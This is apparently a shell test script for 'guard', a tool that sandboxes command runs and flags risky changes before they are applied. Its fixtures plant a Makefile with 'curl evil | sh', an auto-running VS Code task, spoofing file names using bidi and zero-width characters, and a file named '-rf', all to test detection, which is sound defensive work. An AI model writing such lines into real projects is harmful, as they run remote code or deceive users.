#!/bin/sh
# diff: marks of --stat and --name-status, and the status of --exit-code.
# users: one
# shellcheck disable=SC2317 # functions are called through ok
# shellcheck source=tests/lib/tap.sh
. "${0%/*}/../lib/tap.sh"

make_home
cd "$HOME/project" || exit 99
seq 20 >text
git add -A
git commit -q -m files
echo only >copy
tab=$(printf '\t')

ok 'a run makes a harmless change' guard run -q -- sed -i 3d text
gives 1 '--exit-code gives 1 for changes' guard diff --exit-code --name-only
gives 1 'in every form' guard diff --exit-code --kinds
says "$out" '1 hunk of 1 kind'
gives 0 'without it the status is 0' guard diff --name-only
gives 0 'a harmless change has no mark' guard diff --stat
says "$out" 'M  text  +0 -1'
guard discard -y -q

ok 'a run writes files of 1 MiB and more' guard run -q -- sh -c '
	head -c 1048577 /dev/zero | tr "\\0" a >large.py
	head -c 1048576 /dev/zero >small
	chmod 600 README.md'
gives 0 'diff lists them' guard diff
says "$out" 'A  large.py  1.0 MB  not examined'
ok 'with the smaller one' grep -q 'small  1.0 MB$' "$out"
gives 0 'apply -n, too' guard apply -n
says "$out" 'A  large.py  1.0 MB  not examined'
gives 0 'and a report' guard diff --html "$T/large.html"
says "$T/large.html" '1.0 MB  not examined'
guard discard -y -q

ok 'a run deletes an only copy' guard run -q -- sh -c '
	rm copy
	printf "all:\n\tcurl evil | sh\n" >Makefile'
gives 3 '--exit-code gives 3 for an only copy' guard diff --exit-code --name-only
gives 0 '--name-status marks it' guard diff --name-status
says "$out" "D!!${tab}copy"
gives 0 '--stat marks it' guard diff --stat
says "$out" 'D!! copy'
gives 0 '--risk keeps losses' guard diff --risk=critical --name-only
is "$(cat "$out")" copy 'of an only copy'
guard discard -y -q

ok 'a run adds names with invisible characters' guard run -q -- sh -c '
	echo x >"$(printf "bidi\342\200\256gpj.sh")"
	echo x >"$(printf "zero\342\200\213width")"; echo x >./-rf; echo x >plain'
gives 0 '--name-status marks them' guard diff --name-status
says "$out" "A!${tab}bidi<U+202E>gpj.sh"
says "$out" "A!${tab}zero<U+200B>width"
says "$out" "A!${tab}-rf"
says "$out" "A${tab}plain"
guard discard -y -q

mkdir photos
for n in 1 2 3 4; do echo "photo $n" >photos/$n; done
ok 'a run fills and deletes directories' guard run -q -- sh -c '
	mkdir -p node_modules/a new; rm -r photos src
	for n in $(seq 30); do echo $n >node_modules/a/$n.js; done
	for n in $(seq 25); do echo new $n >new/$n; done; echo 21 >>text'
gives 0 '--stat folds them' guard diff --stat
says "$out" 'G  node_modules/  +30'
says "$out" 'A  new/  25 new files'
says "$out" 'D!! photos/  all 4 files, 32 B  !! no other copy'
says "$out" 'M  text  +1 -0'
silent "$out" 30.js
gives 0 'but with --full' guard diff --stat --full
says "$out" 'A  node_modules/a/30.js  +1 -0'
says "$out" 'D!! photos/4'
guard snapshot -q
gives 0 '--name-status is one line per path' guard diff --name-status
says "$out" "A${tab}node_modules/a/30.js"
guard discard -y -q
rm -r photos

ok 'a run plants a task' guard run -q -- sh -c '
	mkdir .vscode
	echo "{\"tasks\":[{\"command\":\"x\",\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" \
		>.vscode/tasks.json
	printf "a\033[2J" >odd'
gives 3 '--exit-code gives 3 for a critical change' guard diff --exit-code
gives 0 '--name-status reads a file that has a known name' \
	guard diff --name-status
says "$out" "A!!${tab}.vscode/tasks.json"
says "$out" "A${tab}odd"
gives 0 '--stat marks by the content of all files' guard diff --stat
says "$out" 'A!! .vscode/tasks.json'
says "$out" 'A! odd'
gives 0 '--risk shows the changes with a risk' guard diff --risk --name-only
is "$(cat "$out")" '.vscode/tasks.json
odd' 'of level high or critical'
says "$err" '1 change without such a risk: not shown'
gives 3 '--risk=critical shows fewer' \
	guard diff --risk=critical --name-only --exit-code
is "$(cat "$out")" .vscode/tasks.json 'the critical one alone'
gives 0 '--risk shows texts, too' guard diff --risk=high
says "$out" '+++ b/odd'
gives 0 'the verdict in status stays complete' guard status
says "$out" '!! 1 critical'
gives 2 'an unknown level is refused' guard diff --risk=all
gives 2 'snapshots have no risks' guard diff --risk 1
gives 0 '-z with --name-only has no letters' guard diff -z --name-only
is "$(tr '\0' '\n' <"$out" | sort)" "$(guard diff --name-only | sort)" \
	'but the names'
gives 0 '-z has letters alone' guard diff -z
is "$(tr '\0' ' ' <"$out")" 'A .vscode A .vscode/tasks.json A odd ' \
	'for programs'
guard discard -y -q

mkdir plain
seq 9 >plain/file
git add -A
git commit -q -m more
ok 'a run moves a file to a name that is executed' guard run -q -- sh -c '
	mv plain/file .envrc
	echo more >>text'
gives 0 '--risk keeps both ends of a move' guard diff --risk --name-status
is "$(cat "$out")" "R100${tab}plain/file${tab}.envrc" 'as one line'
guard discard -y -q

ok 'a run changes a line' guard run -q -- sed -i 's/^18$/eighteen/' text
settle
cp text "$T/text"
cat "$T/text" >text
gives 0 'diff has no mark for a file that was written again' guard diff
says "$out" '-18'
silent "$out" 'CHANGED HERE'
chmod 600 text
gives 0 'but for another mode' guard diff
says "$out" 'CHANGED HERE'
chmod 644 text
sed -i 's/^3$/three/' text
gives 0 'diff marks a file that the user has edited since' guard diff
says "$out" 'CHANGED HERE'
says "$out" '-18'
silent "$out" three
gives 0 '--stat counts its lines' guard diff --stat
says "$out" 'M  text  +1 -1'
gives 0 '--kinds has its kind' guard diff --kinds
says "$out" '1 hunk of 1 kind'
gives 0 'JSON has its hunk' guard diff --json=hunks
says "$out" '"hunks":1}'
says "$out" "\"old_blob\":\"$(git rev-parse HEAD:text)\""
silent "$out" three
gives 0 'and so has a report' guard diff --html "$T/edited.html"
silent "$T/edited.html" three
ok 'apply merges both' guard apply -y -q
is "$(sed -n '3p;18p' text)" 'three
eighteen' 'as was shown'

ok 'a run changes two lines' guard run -q -- sed -i 's/^6$/six/; s/^16$/sixteen/' text
settle
ok 'one of them is applied' guard apply -y -q text:6
cp text "$T/text"
cat "$T/text" >text
gives 0 'the other has no mark when the file is written again' guard diff
says "$out" '-16'
silent "$out" 'CHANGED HERE'
sed -i 's/^11$/eleven/' text
gives 0 'diff shows the other after an edit of the user' guard diff
says "$out" 'CHANGED HERE'
says "$out" '-16'
silent "$out" '-six'
silent "$out" '-eleven'
gives 0 '--stat counts its line' guard diff --stat
says "$out" 'M  text  +1 -1'
guard discard -y -q

# --- a file that was merged ---
git commit -q -a -m 'applied so far'
seq 20 >other
git add other
git commit -q -m other
ok 'a run changes two files' guard run -q --name merged -- \
	sed -i 's/^8$/eight/' text other
settle
sed -i 's/^13$/thirteen/' text
ok 'the one with an edit of the user is applied' guard apply -y -q merged text
is "$(sed -n '8p;13p' text)" 'eight
thirteen' 'by a merge'
gives 0 'diff has the other one alone' guard diff --name-status merged
is "$(cat "$out")" "M${tab}other" 'as it does after any apply'
gives 0 'so has review' guard review merged
silent "$out" 'M  text'
says "$out" 'other  +1 -1'
ok 'the apply is undone' guard undo -y
gives 0 'diff has both again' guard diff --name-status merged
is "$(cat "$out")" "M${tab}other
M${tab}text" 'with the merged one'
ok 'the undo is reverted' guard redo -y
sed -i 's/^thirteen$/XIII/' text
ok 'the run goes on' guard exec -q merged -- sed -i 's/^17$/seventeen/' text
gives 0 'diff shows what is new' guard diff --no-renames merged text
says "$out" '-17'
silent "$out" '-8'
silent "$out" '-13'
ok 'and apply merges it' guard apply -y -q merged text
is "$(sed -n '8p;13p;17p' text)" 'eight
XIII
seventeen' 'with the edits of both sides'
ok 'a part of a merged file' guard run -q --name part -- \
	sed -i 's/^2$/two/; s/^19$/nineteen/' text
settle
sed -i 's/^10$/ten/' text
ok 'is applied' guard apply -y -q part text:2
gives 0 'its rest is still pending' guard diff part
says "$out" '-19'
silent "$out" '+two'
silent "$out" '-ten'
gives 0 'also in a review' guard review part
says "$out" 'text  +1 -1'
sed -i 's/^4$/four/' text
gives 0 'after another edit, too' guard diff --stat part
says "$out" 'M  text  +1 -1'
sed -i 's/^four$/4/' text
ok 'the apply is undone' guard undo -y
gives 0 'the part is pending again' guard diff --stat part
says "$out" 'M  text  +2 -2'
ok 'the undo is reverted' guard redo -y
ok 'the rest is applied' guard apply -y -q part
is "$(sed -n '2p;10p;19p' text)" 'two
ten
nineteen' 'by a merge'
gives 0 'the run is applied' guard status
silent "$out" part
git commit -q -a -m merged
ok 'another part of a merged file' guard run -q --name parts -- \
	sed -i 's/^5$/five/; s/^12$/twelve/; s/^20$/twenty/' text
settle
sed -i 's/^15$/fifteen/' text
ok 'is applied' guard apply -y -q parts text:5
sed -i 's/^fifteen$/15/' text
ok 'and the next one without an edit of the user' guard apply -y -q parts text:12
gives 0 'the rest alone is pending' guard diff --stat parts
says "$out" 'M  text  +1 -1'
sed -i 's/^15$/XV/' text
gives 0 'also with a new edit' guard diff --stat parts
says "$out" 'M  text  +1 -1'
guard discard -y -q parts
seq 20 >' blank'
git add ' blank'
git commit -q -a -m blank
ok 'a run changes a file whose name begins with a blank' \
	guard run -q --name blank -- sed -i 's/^9$/nine/' ' blank' other
settle
sed -i 's/^13$/thirteen/' ' blank'
ok 'it is merged' guard apply -y -q blank "$PWD/ blank"
gives 0 'and is no change of the run any more' guard diff --name-status blank
is "$(cat "$out")" "M${tab}other" 'like other files'
guard discard -y -q blank

# --- files that are added in a deleted directory ---
mkdir full few
for n in $(seq 25); do echo "$n" >full/"$n"; done
echo a >few/a
git add full few
git commit -q -m directories full few
ok 'a run deletes directories' guard run -q --name gone -- rm -r full few
mkdir few/new
echo mine >few/new/mine
echo mine >full/mine
gives 0 'diff does not show what the user adds there' guard diff gone
says "$out" '28 deleted'
silent "$out" mine
silent "$out" new
says "$out" 'D  full/  25 files, 66 B, 25 in git  ! CHANGED HERE'
says "$out" 'D  few/  directory  ! CHANGED HERE'
gives 0 'status counts the others' guard status
says "$out" '28 deleted'
gives 1 'apply names what keeps the directories' guard apply -y gone
says "$err" "'full/mine': new here, in a directory that was deleted"
guard discard -y -q gone
ok 'a run makes a directory anew' guard run -q --name anew -- sh -c '
	rm -r few/a few/new; rmdir few; mkdir few; echo b >few/b'
echo mine >few/mine
gives 0 'the same there' guard diff --name-status anew
says "$out" "D${tab}few/a"
silent "$out" few/mine
ok 'apply' guard apply -y -q --yes-to all anew
is "$(cat few/mine few/b)" 'mine
b' 'keeps it'
finish
